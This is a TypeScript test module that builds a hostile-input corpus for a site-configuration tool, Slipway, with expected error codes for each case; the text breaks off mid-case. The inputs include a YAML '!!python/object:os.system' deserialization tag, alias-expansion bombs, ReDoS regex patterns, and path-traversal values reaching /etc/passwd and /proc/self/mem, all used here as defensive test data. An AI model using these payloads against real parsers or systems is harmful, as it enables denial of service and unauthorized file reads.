// The hostile-input corpus: bad inputs of every class Slipway must refuse cleanly (a named
// error, file:line, the exit-code table, bounded time and memory, no secret printed).
// Generated: each case is the base site (base-site.ts) with one thing made bad, and the
// command line to run on it.

import { execFileSync } from 'node:child_process';
import { chmod, link, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import type { Files } from './base-site.js';

export interface HostileCase {
  name: string;
  /** The class of bad input (the issue's list). */
  klass: string;
  /** Arguments of `slipway` (cwd is the case's repository). */
  argv: string[];
  /** Changes to the base site's files (a file set to "" is removed). */
  edit?: (files: Files) => void;
  /** What cannot be a file's text: symlinks, FIFOs, permissions. */
  setup?: (dir: string) => Promise<void>;
  env?: Record<string, string>;
  /** Exit code from the table: 0 done, 1 failed, 2 diff found, 3 bad input or usage. */
  exit: 0 | 1 | 2 | 3;
  /** The error code that must be printed as `Code:`; absent for inputs that are accepted. */
  code?: string;
  /** The file whose `path:line` must be printed. */
  at?: string;
  /** Run as this user (for EACCES when the tests run as root). */
  uid?: number;
}

/** An Ironic URL nothing listens on (port 9, discard: closed on loopback). */
export const CLOSED_IRONIC = 'http://127.0.0.1:9';

const SITE = ['.', '--site', 'lab'];
const APP = 'site/lab/software/app.yaml';
const HOSTS = 'site/lab/baremetal/nodes.yaml';
const DEF = 'site/lab/site-definition.yaml';
const BAD = 'site/lab/bad.yaml';

const put = (path: string, text: string) => (f: Files) => {
  f[path] = text;
};
const replace = (path: string, from: string | RegExp, to: string) => (f: Files) => {
  const before = f[path]!;
  const after = before.replace(from, () => to);
  if (after === before) throw new Error(`corpus: '${String(from)}' not found in ${path}`);
  f[path] = after;
};
const both =
  (...edits: ((f: Files) => void)[]) =>
  (f: Files) => {
    for (const e of edits) e(f);
  };

const doc = (schema: string, name: string, data: string, extra = '', layer = 'site') =>
  `schema: ${schema}\nmetadata:\n  schema: metadata/Document/v1\n  name: ${name}\n  storagePolicy: cleartext\n  layeringDefinition:\n    abstract: false\n    layer: ${layer}\n${extra}data: ${data}\n`;

/** Leaves a Unix socket at `path` (a hard link kept past the listener, which removes its own name on close). */
async function listenOnce(path: string): Promise<void> {
  const server = createServer();
  const temp = `${path}.listening`;
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(temp, resolve));
  try {
    await link(temp, path);
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
}

/** `validate` must refuse what `plan` refuses about the documents, with the same code and place: the named plan cases, run as validate. */
function asValidate(cases: HostileCase[], names: string[]): HostileCase[] {
  return names.map((name) => {
    const c = cases.find((x) => x.name === name && x.argv[0] === 'plan');
    if (!c) throw new Error(`corpus: no plan case '${name}'`);
    return { ...c, name: `${name} (validate)`, argv: ['validate', ...c.argv.slice(1)] };
  });
}

function aliasBomb(levels: number, width: number): string {
  const lines = [
    `schema: slipway/Bomb/v1`,
    `metadata:`,
    `  schema: metadata/Document/v1`,
    `  name: bomb`,
    `  storagePolicy: cleartext`,
    `  layeringDefinition: {abstract: false, layer: site}`,
    `data:`,
  ];
  lines.push(`  l0: &l0 [${Array(width).fill('"lol"').join(', ')}]`);
  for (let i = 1; i < levels; i++)
    lines.push(
      `  l${i}: &l${i} [${Array(width)
        .fill(`*l${i - 1}`)
        .join(', ')}]`,
    );
  return `${lines.join('\n')}\n`;
}

function yamlCases(): HostileCase[] {
  const bad: [string, string][] = [
    ['unclosed flow sequence', 'schema: a/B/v1\nmetadata: {name: x\ndata: [1, 2\n'],
    ['bad indentation', 'schema: a/B/v1\nmetadata:\n  name: x\n    schema: y\ndata: {}\n'],
    ['tab indentation', 'schema: a/B/v1\nmetadata:\n\tname: x\ndata: {}\n'],
    ['undefined alias', 'schema: a/B/v1\nmetadata: {name: x}\ndata: *nope\n'],
    ['unclosed quote', 'schema: a/B/v1\nmetadata: {name: "x}\ndata: {}\n'],
    ['invalid escape', 'schema: a/B/v1\nmetadata: {name: "\\q"}\ndata: {}\n'],
    ['mapping value in plain scalar', 'schema: a/B/v1\nmetadata: {name: x}\ndata: a: b: c\n'],
    ['sequence inside a mapping', 'schema: a/B/v1\nmetadata:\n  name: x\n- item\ndata: {}\n'],
    ['python object tag', 'schema: a/B/v1\nmetadata: {name: x}\ndata: !!python/object:os.system {}\n'],
    ['deep nesting', `schema: a/B/v1\nmetadata: {name: x}\ndata: ${'['.repeat(20000)}${']'.repeat(20000)}\n`],
  ];
  const out: HostileCase[] = [];
  for (const [what, text] of bad) {
    out.push({
      name: `yaml: ${what} (render)`,
      klass: 'yaml',
      argv: ['render', ...SITE],
      edit: put(BAD, text),
      exit: 3,
      code: 'InvalidYAML',
      at: BAD,
    });
  }
  for (const cmd of ['validate', 'plan', 'lint', 'diff']) {
    out.push({
      name: `yaml: unclosed flow sequence (${cmd})`,
      klass: 'yaml',
      argv: cmd === 'lint' ? ['lint', '.'] : [cmd, ...SITE, ...(cmd === 'diff' ? ['--ironic-url', CLOSED_IRONIC] : [])],
      edit: put(BAD, bad[0]![1]),
      exit: 3,
      code: cmd === 'lint' ? 'P007' : 'InvalidYAML',
      at: BAD,
    });
  }
  return out;
}

function limitCases(): HostileCase[] {
  const out: HostileCase[] = [];
  for (const argv of [
    ['render', ...SITE, '-o', 'json'],
    ['render', ...SITE],
    ['validate', ...SITE],
    ['plan', ...SITE],
    ['lint', '.'],
    ['site', 'diff', 'lab', 'lab', '--repo', '.'],
  ]) {
    out.push({
      name: `alias bomb (${argv.slice(0, 2).join(' ')}${argv.includes('json') ? ' -o json' : ''})`,
      klass: 'limits',
      argv,
      edit: put('site/lab/bomb.yaml', aliasBomb(9, 9)),
      exit: 3,
      code: argv[0] === 'lint' ? 'P007' : 'InvalidYAML',
      at: 'site/lab/bomb.yaml',
    });
  }
  out.push({
    name: 'alias bomb, wide and shallow',
    klass: 'limits',
    argv: ['render', ...SITE, '-o', 'json'],
    edit: put('site/lab/bomb.yaml', aliasBomb(4, 400)),
    exit: 3,
    code: 'InvalidYAML',
    at: 'site/lab/bomb.yaml',
  });
  out.push({
    name: 'merge-key alias fan-out',
    klass: 'limits',
    argv: ['render', ...SITE, '-o', 'json'],
    edit: put(
      'site/lab/bomb.yaml',
      aliasBomb(8, 10).replace('data:\n', 'data:\n  base: &base {a: 1}\n  merged: {<<: *base, b: 2}\n'),
    ),
    exit: 3,
    code: 'InvalidYAML',
    at: 'site/lab/bomb.yaml',
  });
  out.push({
    name: 'alias limit lowered by flag',
    klass: 'limits',
    argv: ['render', ...SITE, '--max-alias-nodes', '5'],
    edit: put('site/lab/alias.yaml', doc('a/Small/v1', 'small', '{a: &x [1, 2, 3], b: *x, c: *x}')),
    exit: 3,
    code: 'InvalidYAML',
    at: 'site/lab/alias.yaml',
  });
  out.push({
    name: 'alias limit lowered by environment',
    klass: 'limits',
    argv: ['render', ...SITE],
    env: { SLIPWAY_MAX_ALIAS_NODES: '5' },
    edit: put('site/lab/alias.yaml', doc('a/Small/v1', 'small', '{a: &x [1, 2, 3], b: *x, c: *x}')),
    exit: 3,
    code: 'InvalidYAML',
    at: 'site/lab/alias.yaml',
  });
  const dest = (path: string) => replace(APP, 'dest: {path: .values.token}', `dest: {path: '${path}'}`);
  for (const [what, path] of [
    ['huge list index', '.values.list[99999999999]'],
    ['list index past the end', '.values.list[5]'],
    ['nested huge index', '.values.a[0].b[123456789]'],
  ] as const) {
    for (const cmd of ['render', 'plan'])
      out.push({
        name: `substitution dest ${what} (${cmd})`,
        klass: 'limits',
        argv: [cmd, ...SITE],
        edit: dest(path),
        exit: 3,
        code: 'MissingDocumentKey',
        at: APP,
      });
  }
  out.push({
    name: 'layering merge into a huge index',
    klass: 'limits',
    argv: ['render', ...SITE],
    edit: replace(
      APP,
      'actions: [{method: merge, path: .values}]',
      "actions: [{method: merge, path: '.values.list[99999999999]'}]",
    ),
    exit: 3,
    code: 'MissingDocumentKey',
    at: APP,
  });
  out.push({
    name: 'document over --max-document-bytes',
    klass: 'limits',
    argv: ['render', ...SITE, '--max-document-bytes', '2K'],
    edit: put('site/lab/big.yaml', doc('a/Big/v1', 'big', JSON.stringify('x'.repeat(4096)))),
    exit: 3,
    code: 'DocumentTooLarge',
    at: 'site/lab/big.yaml',
  });
  out.push({
    name: 'document over SLIPWAY_MAX_DOCUMENT_BYTES',
    klass: 'limits',
    argv: ['validate', ...SITE],
    env: { SLIPWAY_MAX_DOCUMENT_BYTES: '2K' },
    edit: put('site/lab/big.yaml', doc('a/Big/v1', 'big', JSON.stringify('x'.repeat(4096)))),
    exit: 3,
    code: 'DocumentTooLarge',
    at: 'site/lab/big.yaml',
  });
  out.push({
    name: 'file over --max-file-bytes',
    klass: 'limits',
    argv: ['render', ...SITE, '--max-file-bytes', '4K'],
    edit: put('site/lab/big.yaml', `# ${'x'.repeat(8192)}\n`),
    exit: 3,
    code: 'FileTooLarge',
  });
  out.push({
    name: 'file over SLIPWAY_MAX_FILE_BYTES',
    klass: 'limits',
    argv: ['plan', ...SITE],
    env: { SLIPWAY_MAX_FILE_BYTES: '4K' },
    edit: put('site/lab/big.yaml', `# ${'x'.repeat(8192)}\n`),
    exit: 3,
    code: 'FileTooLarge',
  });
  out.push({
    name: 'bad --max-file-bytes value',
    klass: 'limits',
    argv: ['render', ...SITE, '--max-file-bytes', 'lots'],
    exit: 3,
    code: 'usage',
  });
  const redos = (pattern: string, value: string) =>
    both(
      put(
        'site/lab/schema.yaml',
        `schema: deckhand/DataSchema/v1\nmetadata:\n  schema: metadata/Control/v1\n  name: corpus/Thing/v1\ndata:\n  $schema: http://json-schema.org/draft-04/schema#\n  type: object\n  properties:\n    name: {type: string, pattern: ${JSON.stringify(pattern)}}\n`,
      ),
      put('site/lab/thing.yaml', doc('corpus/Thing/v1', 'thing', `{name: ${JSON.stringify(value)}}`)),
    );
  for (const cmd of ['validate', 'plan']) {
    out.push({
      name: `DataSchema pattern (a+)+$ on a long string (${cmd})`,
      klass: 'limits',
      argv: [cmd, ...SITE],
      edit: redos('^(a+)+$', `${'a'.repeat(50000)}!`),
      exit: 3,
      code: 'SchemaValidationError',
      at: 'site/lab/thing.yaml',
    });
    out.push({
      name: `DataSchema pattern (.*a){20} (${cmd})`,
      klass: 'limits',
      argv: [cmd, ...SITE],
      edit: redos('^(.*a){20}$', `${'a'.repeat(5000)}b`),
      exit: 3,
      code: 'SchemaValidationError',
      at: 'site/lab/thing.yaml',
    });
    out.push({
      name: `DataSchema pattern with a backreference (${cmd})`,
      klass: 'limits',
      argv: [cmd, ...SITE],
      edit: redos('^(a+)\\1$', 'aa'),
      exit: 3,
      code: 'InvalidDataSchema',
      at: 'site/lab/schema.yaml',
    });
    out.push({
      name: `DataSchema pattern with a lookahead (${cmd})`,
      klass: 'limits',
      argv: [cmd, ...SITE],
      edit: redos('^(?=a)a+$', 'aa'),
      exit: 3,
      code: 'InvalidDataSchema',
      at: 'site/lab/schema.yaml',
    });
  }
  // A dest.pattern not found leaves the value as it is, as Deckhand does (issue 9); what this case holds is that RE2 says so in linear time.
  out.push({
    name: 'substitution dest.pattern (a+)+$ on a long value',
    klass: 'limits',
    argv: ['render', ...SITE],
    edit: both(
      replace('global/software/app.yaml', 'message: hello', `message: ${'a'.repeat(30000)}!`),
      replace(APP, 'dest: {path: .values.token}', "dest: {path: .values.message, pattern: '^(a+)+$'}"),
    ),
    exit: 0,
  });
  out.push({
    name: 'substitution src.pattern with a backreference',
    klass: 'limits',
    argv: ['render', ...SITE],
    edit: replace(APP, 'path: .}', "path: ., pattern: '(a)\\1'}"),
    exit: 3,
    code: 'UnsupportedRegularExpression',
    at: APP,
  });
  return out;
}

function envelopeCases(): HostileCase[] {
  const bad: [string, string, string][] = [
    ['a list, not a mapping', '- a\n- b\n', 'InvalidDocumentFormat'],
    ['a scalar', 'just a string\n', 'InvalidDocumentFormat'],
    [
      'no schema',
      'metadata: {schema: metadata/Document/v1, name: x, layeringDefinition: {layer: site}}\ndata: {}\n',
      'InvalidDocumentFormat',
    ],
    ['no metadata', 'schema: a/B/v1\ndata: {}\n', 'InvalidDocumentFormat'],
    [
      'no metadata.name',
      'schema: a/B/v1\nmetadata: {schema: metadata/Document/v1}\ndata: {}\n',
      'InvalidDocumentFormat',
    ],
    [
      'no data',
      'schema: a/B/v1\nmetadata: {schema: metadata/Document/v1, name: x, layeringDefinition: {layer: site}}\n',
      'InvalidDocumentFormat',
    ],
    ['schema not a/B/v1', doc('not-a-schema', 'x', '{}'), ''],
    ['metadata.schema unknown', 'schema: a/B/v1\nmetadata: {schema: metadata/Nope/v1, name: x}\ndata: {}\n', ''],
    [
      'no layer',
      'schema: a/B/v1\nmetadata: {schema: metadata/Document/v1, name: x, storagePolicy: cleartext, layeringDefinition: {abstract: false}}\ndata: {}\n',
      '',
    ],
    [
      'bogus storagePolicy',
      'schema: a/B/v1\nmetadata: {schema: metadata/Document/v1, name: x, storagePolicy: plaintext, layeringDefinition: {layer: site}}\ndata: {}\n',
      '',
    ],
    [
      'name is a number',
      'schema: a/B/v1\nmetadata: {schema: metadata/Document/v1, name: 42, layeringDefinition: {layer: site}}\ndata: {}\n',
      'InvalidDocumentFormat',
    ],
  ];
  return bad.map(([what, text]) => ({
    name: `envelope: ${what}`,
    klass: 'envelope',
    argv: ['render', ...SITE],
    edit: put(BAD, text),
    exit: 3 as const,
    code: 'InvalidDocumentFormat',
    at: BAD,
  }));
}

function layeringCases(): HostileCase[] {
  const act = (actions: string) => replace(APP, 'actions: [{method: merge, path: .values}]', `actions: ${actions}`);
  const cases: [string, (f: Files) => void, string, string][] = [
    ['unknown action method', act('[{method: squash, path: .values}]'), 'UnsupportedActionMethod', APP],
    ['merge path missing in the child', act('[{method: merge, path: .nothere}]'), 'MissingDocumentKey', APP],
    ['delete path missing in the parent', act('[{method: delete, path: .nothere}]'), 'MissingDocumentKey', APP],
    ['replace path missing in the child', act('[{method: replace, path: .nothere}]'), 'MissingDocumentKey', APP],
    ['unterminated path', act("[{method: merge, path: '.values['}]"), 'InvalidDocumentFormat', APP],
    ['layer not in the layer order', replace(APP, 'layer: site', 'layer: rack'), 'InvalidDocumentLayer', APP],
    [
      'two parents in one layer',
      put(
        'global/software/app2.yaml',
        doc(
          'armada/Chart/v1',
          'app-global-2',
          '{chart_name: app, values: {}}',
          '  labels: {component: app}\n',
          'global',
        ),
      ),
      'IndeterminateDocumentParent',
      APP,
    ],
    [
      'parent of another schema',
      replace(
        'site/lab/config/credentials.yaml',
        'parentSelector: {secret: default}',
        'parentSelector: {component: app}',
      ),
      'InvalidDocumentParent',
      'site/lab/config/credentials.yaml',
    ],
    [
      'replacement without a parent',
      replace(
        'site/lab/baremetal/nodes.yaml',
        '  name: node01\n  storagePolicy: cleartext\n  layeringDefinition: {abstract: false, layer: site}',
        '  name: node01\n  storagePolicy: cleartext\n  replacement: true\n  layeringDefinition: {abstract: false, layer: site}',
      ),
      'InvalidDocumentReplacement',
      HOSTS,
    ],
    [
      'a document defined twice',
      put('site/lab/software/app-again.yaml', doc('armada/Chart/v1', 'app', '{chart_name: app}')),
      'DuplicateDocumentExists',
      APP,
    ],
    ['no LayeringPolicy', put('global/layering-policy.yaml', ''), 'LayeringPolicyNotFound', ''],
  ];
  return cases.map(([what, edit, code, at]) => ({
    name: `layering: ${what}`,
    klass: 'layering',
    argv: ['render', ...SITE],
    edit,
    exit: 3 as const,
    code,
    ...(at ? { at } : {}),
  }));
}

function substitutionCases(): HostileCase[] {
  const sub = (from: string, to: string) => replace(APP, from, to);
  const cycle = both(
    put(
      'site/lab/cycle.yaml',
      `${doc('a/Loop/v1', 'one', '{v: 1}', '  substitutions:\n    - src: {schema: a/Loop/v1, name: two, path: .v}\n      dest: {path: .w}\n')}---\n${doc('a/Loop/v1', 'two', '{v: 2}', '  substitutions:\n    - src: {schema: a/Loop/v1, name: one, path: .v}\n      dest: {path: .w}\n')}`,
    ),
  );
  const cases: [string, (f: Files) => void, string][] = [
    ['source document missing', sub('name: app-token', 'name: no-such-token'), 'SubstitutionSourceNotFound'],
    [
      'source path missing',
      sub('name: app-token, path: .}', 'name: app-token, path: .nothere}'),
      'SubstitutionSourceDataNotFound',
    ],
    [
      'dest pattern not found',
      sub('dest: {path: .values.token}', 'dest: {path: .values.replicaCount, pattern: NOPE}'),
      'MissingDocumentPattern',
    ],
    [
      'dest pattern invalid',
      sub('dest: {path: .values.token}', "dest: {path: .values.message, pattern: '('}"),
      'UnsupportedRegularExpression',
    ],
    [
      'src path bad syntax',
      sub('name: app-token, path: .}', "name: app-token, path: '.a[b'}"),
      'InvalidDocumentFormat',
    ],
  ];
  const out: HostileCase[] = cases.map(([what, edit, code]) => ({
    name: `substitution: ${what}`,
    klass: 'substitution',
    argv: ['render', ...SITE],
    edit,
    exit: 3 as const,
    code,
    at: APP,
  }));
  out.push({
    name: 'substitution: a cycle of two documents',
    klass: 'substitution',
    argv: ['render', ...SITE],
    edit: cycle,
    exit: 3,
    code: 'SubstitutionDependencyCycle',
    at: 'site/lab/cycle.yaml',
  });
  const self = (schema: string, name: string) =>
    `  substitutions:\n    - src: {schema: ${schema}, name: ${name}, path: .v}\n      dest: {path: .w}\n`;
  for (const argv of [['render'], ['validate'], ['plan']])
    out.push({
      name: `substitution: a document substituting from itself (${argv[0]})`,
      klass: 'substitution',
      argv: [...argv, ...SITE],
      edit: put('site/lab/cycle.yaml', doc('a/Loop/v1', 'self', '{v: 1}', self('a/Loop/v1', 'self'))),
      exit: 3,
      code: 'SubstitutionDependencyCycle',
      at: 'site/lab/cycle.yaml',
    });
  out.push({
    name: 'substitution: a chart substituting from itself, beside its other substitution',
    klass: 'substitution',
    argv: ['plan', ...SITE],
    edit: sub(
      '      dest: {path: .values.token}\n',
      '      dest: {path: .values.token}\n    - src: {schema: armada/Chart/v1, name: app, path: .values.replicaCount}\n      dest: {path: .values.copy}\n',
    ),
    exit: 3,
    code: 'SubstitutionDependencyCycle',
    at: APP,
  });
  out.push({
    name: 'substitution: a cycle of two documents (validate)',
    klass: 'substitution',
    argv: ['validate', ...SITE],
    edit: cycle,
    exit: 3,
    code: 'SubstitutionDependencyCycle',
    at: 'site/lab/cycle.yaml',
  });
  out.push({
    name: 'substitution: a cycle of three documents (plan)',
    klass: 'substitution',
    argv: ['plan', ...SITE],
    edit: put(
      'site/lab/cycle.yaml',
      ['one', 'two', 'three']
        .map((n, i, all) =>
          doc(
            'a/Loop/v1',
            n,
            '{v: 1}',
            `  substitutions:\n    - src: {schema: a/Loop/v1, name: ${all[(i + 1) % 3]}, path: .v}\n      dest: {path: .w}\n`,
          ),
        )
        .join('---\n'),
    ),
    exit: 3,
    code: 'SubstitutionDependencyCycle',
    at: 'site/lab/cycle.yaml',
  });
  return out;
}

function schemaCases(): HostileCase[] {
  const cases: [string, (f: Files) => void, string, string][] = [
    [
      'chart without chart_name',
      replace('global/software/app.yaml', '  chart_name: app\n', ''),
      'SchemaValidationError',
      APP,
    ],
    [
      'chart source without a location',
      replace('global/software/app.yaml', 'source: {type: local, location: charts/app}', 'source: {type: local}'),
      'SchemaValidationError',
      APP,
    ],
    [
      'host without bmc',
      replace(HOSTS, / {2}bmc:\n {4}address: .*\n {4}credentials: \{username: admin\}\n/, ''),
      'SchemaValidationError',
      HOSTS,
    ],
    [
      'BMC address not a URL (schema)',
      replace(HOSTS, 'address: redfish+http://127.0.0.1:9/redfish/v1/Systems/1', 'address: not-a-url'),
      'SchemaValidationError',
      HOSTS,
    ],
    // A DataSchema is checked when a document uses it (as Python jsonschema does, issue 9).
    [
      'DataSchema that is not a JSON Schema',
      both(
        put(
          'site/lab/schema.yaml',
          `schema: deckhand/DataSchema/v1\nmetadata:\n  schema: metadata/Control/v1\n  name: corpus/Thing/v1\ndata:\n  type: 12\n`,
        ),
        put('site/lab/thing.yaml', doc('corpus/Thing/v1', 'thing', '{name: x}')),
      ),
      'InvalidDataSchema',
      'site/lab/schema.yaml',
    ],
    [
      'manifest names a missing group',
      replace('type/edge/software/groups.yaml', 'chart_groups: [apps]', 'chart_groups: [apps, nothere]'),
      'ChartGroupNotFound',
      'type/edge/software/groups.yaml',
    ],
  ];
  return cases.map(([what, edit, code, at]) => ({
    name: `schema: ${what}`,
    klass: 'schema',
    argv: [code === 'ChartGroupNotFound' ? 'plan' : 'validate', ...SITE],
    edit,
    exit: 3 as const,
    code,
    at,
  }));
}

function containmentCases(): HostileCase[] {
  const loc = (location: string) =>
    replace('global/software/app.yaml', 'location: charts/app', `location: ${location}`);
  const out: HostileCase[] = [];
  for (const [what, location] of [
    ['absolute /etc', '/etc'],
    ['../ out of the repository', '../../../../../../etc'],
    ['absolute path to a file', '/etc/passwd'],
  ] as const) {
    for (const cmd of ['plan', 'apply', 'diff']) {
      out.push({
        name: `chart location ${what} (${cmd})`,
        klass: 'containment',
        argv: [cmd, ...SITE, ...(cmd === 'plan' ? [] : ['--ironic-url', CLOSED_IRONIC])],
        edit: loc(location),
        exit: 3,
        code: 'PathOutsideRepository',
        at: APP,
      });
    }
  }
  out.push({
    name: 'chart location through a symlink to /etc',
    klass: 'containment',
    argv: ['plan', ...SITE],
    edit: loc('charts/linked'),
    setup: (dir) => symlink('/etc', join(dir, 'charts/linked')),
    exit: 3,
    code: 'PathOutsideRepository',
    at: APP,
  });
  out.push({
    name: 'site_type ../../x',
    klass: 'containment',
    argv: ['render', ...SITE],
    edit: replace(DEF, 'site_type: edge', 'site_type: ../../x'),
    exit: 3,
    code: 'PathOutsideRepository',
    at: DEF,
  });
  out.push({
    name: 'site_type /etc',
    klass: 'containment',
    argv: ['plan', ...SITE],
    edit: replace(DEF, 'site_type: edge', 'site_type: /etc'),
    exit: 3,
    code: 'PathOutsideRepository',
    at: DEF,
  });
  out.push({
    name: 'site_type no-such-type',
    klass: 'containment',
    argv: ['render', ...SITE],
    edit: replace(DEF, 'site_type: edge', 'site_type: no-such-type'),
    exit: 3,
    code: 'SiteTypeNotFound',
    at: DEF,
  });
  out.push({
    name: 'site_type no-such-type (validate)',
    klass: 'containment',
    argv: ['validate', ...SITE],
    edit: replace(DEF, 'site_type: edge', 'site_type: no-such-type'),
    exit: 3,
    code: 'SiteTypeNotFound',
    at: DEF,
  });
  out.push({
    name: 'site_type no-such-type (plan)',
    klass: 'containment',
    argv: ['plan', ...SITE],
    edit: replace(DEF, 'site_type: edge', 'site_type: no-such-type'),
    exit: 3,
    code: 'SiteTypeNotFound',
    at: DEF,
  });
  for (const site of ['../site/lab', '../../etc', 'lab/../lab', '/etc']) {
    out.push({
      name: `--site ${site}`,
      klass: 'containment',
      argv: ['render', '.', '--site', site],
      exit: 3,
      code: 'PathOutsideRepository',
    });
  }
  out.push({
    name: '--site no-such-site',
    klass: 'containment',
    argv: ['render', '.', '--site', 'nope'],
    exit: 3,
    code: 'SiteNotFound',
  });
  out.push({
    name: 'lint --site ../../etc',
    klass: 'containment',
    argv: ['lint', '.', '--site', '../../etc'],
    exit: 3,
    code: 'PathOutsideRepository',
  });
  out.push({
    name: 'site diff with a site ../lab',
    klass: 'containment',
    argv: ['site', 'diff', 'lab', '../lab', '--repo', '.'],
    exit: 3,
    code: 'PathOutsideRepository',
  });
  out.push({
    name: 'site new --from ../../etc',
    klass: 'containment',
    argv: ['site', 'new', 'lab2', '--from', '../../etc', '--repo', '.', '--dry-run'],
    exit: 3,
    code: 'PathOutsideRepository',
  });
  const outside = async (dir: string, what: string) => {
    const target = join(dir, '..', `${dir.split('/').pop()}-outside-${what.replace(/\W/g, '')}`);
    await mkdir(target, { recursive: true });
    await writeFile(
      join(target, 'site-definition.yaml'),
      `schema: pegleg/SiteDefinition/v1\nmetadata: {schema: metadata/Document/v1, name: lab, storagePolicy: cleartext, layeringDefinition: {abstract: false, layer: site}}\ndata: {site_type: edge}\n`,
    );
    return target;
  };
  out.push({
    name: 'type folder is a symlink out of the repository',
    klass: 'containment',
    argv: ['render', ...SITE],
    setup: async (dir) => {
      const target = await outside(dir, 'type');
      await rm(join(dir, 'type/edge'), { recursive: true });
      await symlink(target, join(dir, 'type/edge'));
    },
    exit: 3,
    code: 'PathOutsideRepository',
  });
  out.push({
    name: 'a document that is a symlink to a file outside the repository is not read, with a warning',
    klass: 'containment',
    argv: ['render', ...SITE],
    setup: (dir) => symlink('/etc/hostname', join(dir, 'site/lab/linked.yaml')),
    exit: 0,
    code: 'SymlinkNotFollowed',
    at: undefined,
  });
  out.push({
    name: 'site folder is a symlink out of the repository',
    klass: 'containment',
    argv: ['render', ...SITE],
    setup: async (dir) => {
      const target = await outside(dir, 'site');
      await rm(join(dir, 'site/lab'), { recursive: true });
      await symlink(target, join(dir, 'site/lab'));
    },
    exit: 3,
    code: 'PathOutsideRepository',
  });
  out.push({
    name: 'global folder is a symlink to /etc',
    klass: 'containment',
    argv: ['render', ...SITE],
    setup: async (dir) => {
      await rm(join(dir, 'global'), { recursive: true });
      await symlink('/etc', join(dir, 'global'));
    },
    exit: 3,
    code: 'PathOutsideRepository',
  });
  return out;
}

function ioCases(): HostileCase[] {
  const fifo = (path: string) => async (dir: string) => {
    execFileSync('mkfifo', [join(dir, path)]);
  };
  const out: HostileCase[] = [
    {
      name: 'a path that does not exist',
      klass: 'io',
      argv: ['render', 'no/such/path.yaml'],
      exit: 3,
      code: 'SourceNotFound',
    },
    { name: '/dev/null', klass: 'io', argv: ['render', '/dev/null'], exit: 3, code: 'NotARegularFile' },
    { name: '/dev/zero', klass: 'io', argv: ['validate', '/dev/zero'], exit: 3, code: 'NotARegularFile' },
    { name: '/proc/self/mem', klass: 'io', argv: ['render', '/proc/self/mem'], exit: 3, code: 'FileNotReadable' },
    { name: '/proc/self/mem (plan)', klass: 'io', argv: ['plan', '/proc/self/mem'], exit: 3, code: 'FileNotReadable' },
    {
      name: 'a FIFO given as the path',
      klass: 'io',
      argv: ['render', 'pipe.yaml'],
      setup: fifo('pipe.yaml'),
      exit: 3,
      code: 'NotARegularFile',
    },
    {
      name: 'a FIFO given as the path (plan)',
      klass: 'io',
      argv: ['plan', 'pipe.yaml'],
      setup: fifo('pipe.yaml'),
      exit: 3,
      code: 'NotARegularFile',
    },
    {
      name: 'a FIFO given as a second path',
      klass: 'io',
      argv: ['validate', 'site/lab/software/app.yaml', 'pipe.yaml'],
      setup: fifo('pipe.yaml'),
      exit: 3,
      code: 'NotARegularFile',
    },
    ...(['render', 'validate', 'plan', 'diff', 'apply'] as const).map((command) => ({
      name: `a FIFO as the site definition (${command})`,
      klass: 'io',
      argv: [command, ...SITE, ...(command === 'diff' || command === 'apply' ? ['--ironic-url', CLOSED_IRONIC] : [])],
      setup: async (dir: string) => {
        await rm(join(dir, DEF));
        execFileSync('mkfifo', [join(dir, DEF)]);
      },
      exit: 3 as const,
      code: 'NotARegularFile',
    })),
    ...(['render', 'validate', 'plan'] as const).map((command) => ({
      name: `a FIFO among the global documents (${command})`,
      klass: 'io',
      argv: [command, ...SITE],
      setup: fifo('global/pipe.yaml'),
      exit: 3 as const,
      code: 'NotARegularFile',
    })),
    {
      name: 'a folder as the site definition',
      klass: 'io',
      argv: ['render', ...SITE],
      setup: async (dir) => {
        await rm(join(dir, DEF));
        await mkdir(join(dir, DEF));
      },
      exit: 3,
      code: 'NotARegularFile',
    },
    {
      name: 'a character device as the site definition (a symlink to /dev/null)',
      klass: 'io',
      argv: ['plan', ...SITE],
      setup: async (dir) => {
        await rm(join(dir, DEF));
        await symlink('/dev/null', join(dir, DEF));
      },
      exit: 3,
      code: 'PathOutsideRepository',
    },
    {
      name: 'a socket as the site definition',
      klass: 'io',
      argv: ['validate', ...SITE],
      setup: async (dir) => {
        await rm(join(dir, DEF));
        await listenOnce(join(dir, DEF));
      },
      exit: 3,
      code: 'NotARegularFile',
    },
    {
      name: 'a site folder with no site definition is still SiteNotFound',
      klass: 'io',
      argv: ['render', ...SITE],
      setup: async (dir) => {
        await rm(join(dir, DEF));
      },
      exit: 3,
      code: 'SiteNotFound',
    },
    {
      name: 'a path through a file (ENOTDIR)',
      klass: 'io',
      argv: ['render', 'site/lab/site-definition.yaml/x.yaml'],
      exit: 3,
      code: 'FileNotReadable',
    },
    { name: 'lint of /dev/null', klass: 'io', argv: ['lint', '/dev/null'], exit: 3, code: 'NotADirectory' },
    {
      name: 'lint of a FIFO',
      klass: 'io',
      argv: ['lint', 'pipe.yaml'],
      setup: fifo('pipe.yaml'),
      exit: 3,
      code: 'NotADirectory',
    },
    { name: 'lint of a missing path', klass: 'io', argv: ['lint', 'no-such-dir'], exit: 3, code: 'SourceNotFound' },
    {
      name: 'lint with a FIFO as the site definition',
      klass: 'io',
      argv: ['lint', '.', '--site', 'lab'],
      setup: async (dir) => {
        await rm(join(dir, DEF));
        execFileSync('mkfifo', [join(dir, DEF)]);
      },
      exit: 3,
      code: 'P010',
      at: DEF,
    },
    {
      name: '--nodes names a missing file',
      klass: 'io',
      argv: ['site', 'new', 'lab2', '--from', 'lab', '--repo', '.', '--nodes', 'no-such-nodes.yaml', '--dry-run'],
      exit: 3,
      code: 'SourceNotFound',
    },
    {
      name: '--nodes is a FIFO',
      klass: 'io',
      argv: ['site', 'new', 'lab2', '--from', 'lab', '--repo', '.', '--nodes', 'pipe.yaml', '--dry-run'],
      setup: fifo('pipe.yaml'),
      exit: 3,
      code: 'NotARegularFile',
    },
    {
      name: '--nodes is /proc/self/mem',
      klass: 'io',
      argv: ['site', 'new', 'lab2', '--from', 'lab', '--repo', '.', '--nodes', '/proc/self/mem', '--dry-run'],
      exit: 3,
      code: 'FileNotReadable',
    },
  ];
  const unreadable = async (dir: string) => {
    await chmod(join(dir, 'site/lab/software/app.yaml'), 0o000);
  };
  const asUser = process.getuid?.() === 0 ? { uid: 65534 } : {};
  out.push({
    name: 'an unreadable document file (EACCES)',
    klass: 'io',
    argv: ['render', ...SITE],
